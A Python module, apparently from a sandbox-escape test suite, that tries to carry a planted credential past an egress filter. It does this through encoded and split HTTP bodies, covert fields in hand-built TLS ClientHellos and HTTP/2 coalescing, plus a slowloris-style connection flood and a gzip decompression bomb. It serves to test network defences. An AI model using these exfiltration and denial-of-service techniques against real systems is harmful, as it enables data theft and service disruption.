"""Out through what is allowed: HTTP, TLS and everything that travels in them."""

from __future__ import annotations

import base64
import codecs
import contextlib
import gzip
import io
import os
import socket
import ssl
import struct
import time
import zipfile
from typing import Any

from netns.escapes.task import Task

_SECONDS = 4.0


def _where(task: Task, name: str) -> str:
    return str(task.world[name[1:]]) if name.startswith("@") else name


def _connect(task: Task) -> socket.socket:
    args = task.args
    host, port = _where(task, args["dial"]), args.get("port", 443 if args.get("tls") else 80)
    end = socket.create_connection((host, port), _SECONDS)
    if not args.get("tls"):
        return end
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if args.get("pinned"):
        context.verify_mode = ssl.CERT_REQUIRED
        context.load_verify_locations(cadata=task.world["authority"])
    if args.get("alpn"):
        context.set_alpn_protocols(args["alpn"])
    sni = args.get("sni", args["dial"])
    return context.wrap_socket(end, server_hostname=sni or None)


def _forms(key: str) -> dict[str, bytes]:
    """The planted credential in the clothes that leaks wear."""
    note = f"note={key}".encode()
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("notes.txt", note)
    return {
        "plain": note,
        "gzip": gzip.compress(note),
        "gzip-twice": gzip.compress(gzip.compress(note)),
        "zip": packed.getvalue(),
        "base64": base64.b64encode(note),
        "base64-hex": base64.b64encode(note.hex().encode()),
        "utf-16": codecs.encode(note.decode(), "utf-16"),
        "reversed": note[::-1],
    }


def _filled(task: Task, text: str) -> bytes:
    key = task.world.get("planted", "")
    text = text.replace("NONCE", task.nonce.decode()).replace("PLANTED", key)
    return text.replace("KNOWN", task.world.get("known", "")).encode("latin-1")


def _answer(end: socket.socket) -> str:
    with contextlib.suppress(TimeoutError):
        data = end.recv(4096)
        if not data:
            return "closed"
        line = data.split(b"\r\n", 1)[0]
        return line.decode("latin-1")[:80] if line[:4] == b"HTTP" else f"{data[:40]!r}"
    return "no answer"


def say(task: Task) -> str:
    """Connect, say the words of the table, and read what comes of it."""
    with _connect(task) as end:
        data = _filled(task, task.args["text"])
        if "form" in task.args:
            body = _forms(task.world["planted"])[task.args["form"]]
            length = f"Content-Length: {len(body)}\r\n\r\n".encode()
            data += length + body
        end.sendall(data)
        saw = _answer(end)
        for more in task.args.get("then", ()):
            end.sendall(_filled(task, more))
            saw += f"; {_answer(end)}"
    return saw


def slowly(task: Task) -> str:
    """The same, a few bytes at a time."""
    with _connect(task) as end:
        data = _filled(task, task.args["text"])
        step = task.args.get("step", 16)
        for at in range(0, len(data), step):
            end.sendall(data[at : at + step])
            time.sleep(0.002)
        return _answer(end)


def chunked(task: Task) -> str:
    """A body whose credential is cut over chunks."""
    key = task.world["planted"]
    with _connect(task) as end:
        end.sendall(_filled(task, task.args["text"]))
        for letter in f"note={key}":
            end.sendall(b"1\r\n" + letter.encode() + b"\r\n")
        end.sendall(b"0\r\n\r\n")
        return _answer(end)


def over_requests(task: Task) -> str:
    """A credential cut over numbered requests: the last piece must not leave."""
    key = task.world["planted"]
    pieces = [key[at : at + 5] for at in range(0, len(key), 5)]
    saw = ""
    for number, piece in enumerate(pieces):
        last = task.nonce.decode() if number == len(pieces) - 1 else "x"
        with _connect(task) as end:
            head = f"GET /get?part={number}&d={piece}&n={last} HTTP/1.1\r\nHost: "
            end.sendall(f"{head}{task.args['dial']}\r\nConnection: close\r\n\r\n".encode())
            saw = _answer(end)
    return saw


def crowd(task: Task) -> str:
    """Three hundred connections that say nothing, from six processes, then a leak."""
    dial, port = task.args["dial"], task.args.get("port", 80)
    read_end, write_end = os.pipe()
    children = []
    for _ in range(6):
        child = os.fork()
        if child == 0:
            idle = []
            for _ in range(50):
                with contextlib.suppress(OSError):
                    end = socket.create_connection((dial, port), 0.5)
                    end.sendall(b"GET / HTTP/1.1\r\nX-Slow: ")
                    idle.append(end)
            os.write(write_end, f"{len(idle)} ".encode())
            time.sleep(60)
            os._exit(0)
        children.append(child)
    told = b""
    while told.count(b" ") < len(children):
        told += os.read(read_end, 100)
    try:
        return f"{sum(map(int, told.split()))} open; {say(task)}"
    finally:
        for child in children:
            os.kill(child, 9)
            os.waitpid(child, 0)


def bomb(task: Task) -> str:
    """A body that grows a thousandfold, with a credential at its end."""
    note = f"note={task.world['planted']}".encode()
    # Large enough to pass every window, and not so large that other attempts wait for it.
    body = gzip.compress(b"\0" * (4 << 20) + note, 1)
    with _connect(task) as end:
        head = _filled(task, task.args["text"])
        end.sendall(head + f"Content-Length: {len(body)}\r\n\r\n".encode())
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            end.sendall(body)
        end.settimeout(14.0)
        return _answer(end)


# --- by hand ----------------------------------------------------------------------------------


def _extension(number: int, body: bytes) -> bytes:
    return struct.pack("!HH", number, len(body)) + body


def hello(name: str, extra: bytes = b"", session: bytes = b"") -> bytes:
    """A ClientHello (RFC 8446 section 4.1.2) in one record."""
    host = name.encode()
    extensions = b""
    if host:
        entry = struct.pack("!BH", 0, len(host)) + host
        extensions += _extension(0, struct.pack("!H", len(entry)) + entry)
    extensions += _extension(43, b"\x02\x03\x04") + _extension(10, b"\0\x02\0\x1d")
    extensions += _extension(13, b"\0\x04\x04\x03\x08\x04")
    share = struct.pack("!HH", 0x1D, 32) + os.urandom(32)
    extensions += _extension(51, struct.pack("!H", len(share)) + share) + extra
    body = b"\x03\x03" + os.urandom(32) + bytes((len(session),)) + session
    body += b"\0\x02\x13\x01\x01\0" + struct.pack("!H", len(extensions)) + extensions
    message = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(message)) + message


def encrypted_hello(task: Task) -> str:
    """Encrypted Client Hello: what it says inside, nobody on the way can read."""
    inner = b"\0\0\x01\0\x01\x2a" + struct.pack("!H", 32) + os.urandom(32)
    payload = task.nonce.ljust(160, b"\0")
    inner += struct.pack("!H", len(payload)) + payload
    return _handshake(task, hello(task.args["dial"], _extension(0xFE0D, inner)))


def session_hello(task: Task) -> str:
    """A message in the session id, which is random anyway."""
    return _handshake(task, hello(task.args["dial"], session=task.nonce.ljust(32, b"\0")[:32]))


def named_hello(task: Task) -> str:
    """A message in the server name itself, to an address that has another name, or none."""
    name = task.args["sni"].replace("NONCE", task.nonce.decode())
    return _handshake(task, hello(name))


def _handshake(task: Task, data: bytes) -> str:
    host = _where(task, task.args["dial"])
    with socket.create_connection((host, task.args.get("port", 443)), _SECONDS) as end:
        end.sendall(data)
        with contextlib.suppress(TimeoutError):
            first = end.recv(100)
            return f"record type {first[0]}" if first else "closed"
    return "no answer"


def _literal(name: str, value: str) -> bytes:
    """A header field without index and without Huffman (RFC 7541 section 6.2.2)."""
    out = b"\0"
    for text in (name.encode(), value.encode()):
        out += (
            bytes((len(text),)) if len(text) < 127 else b"\x7f" + bytes((len(text) - 127,))
        ) + text
    return out


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return struct.pack("!I", len(body))[1:] + struct.pack("!BBI", kind, flags, stream) + body


def coalesced(task: Task) -> str:
    """HTTP/2: a second stream asks another site over the first one's connection."""
    own, other = task.args["dial"], task.args["other"]
    with _connect(task) as end:
        hello_frames = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"")
        for stream, authority, path in (
            (1, own, "/get"),
            (3, other, f"/get?n={task.nonce.decode()}"),
        ):
            fields: Any = ((":method", "GET"), (":scheme", "https"), (":authority", authority))
            block = b"".join(_literal(*field) for field in (*fields, (":path", path)))
            hello_frames += _frame(1, 5, stream, block)
        end.sendall(hello_frames)
        end.settimeout(0.5)
        data, deadline = b"", time.monotonic() + 1.5
        with contextlib.suppress(TimeoutError):
            while time.monotonic() < deadline and (piece := end.recv(65536)):
                data += piece
    return f"{len(data)} bytes came back"
